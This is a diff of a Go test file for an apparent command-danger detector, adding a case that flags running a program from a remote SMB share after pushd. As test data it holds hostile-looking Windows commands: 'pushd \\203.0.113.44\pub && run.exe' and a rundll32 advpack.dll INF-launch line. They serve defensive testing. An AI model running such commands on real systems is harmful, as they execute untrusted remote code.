@@ -120,3 +120,16 @@ func TestWinrsPayloadsAndInfFromShares(t *testing.T) {
 		`rundll32 advpack.dll,LaunchINFSection .\driver\x.inf,DefaultInstall,1,`,
 	})
 }
+
+// A program run by a bare name after pushd to a share comes from it.
+func TestProgramsRunFromSharesByName(t *testing.T) {
+	d := NewDetector(Options{})
+	cmdc := winCorpusContextFor("cmd")
+	checkDanger(t, d, cmdc, []dangerCase{
+		{`pushd \\203.0.113.44\pub && run.exe`, CategoryRemoteExec, "remote-code-exec", LevelCritical},
+	})
+	checkSafe(t, d, cmdc, []string{
+		`pushd \\203.0.113.44\pub && popd && run.exe`,
+		`pushd \\fileserver\builds && dir && popd`,
+	})
+}
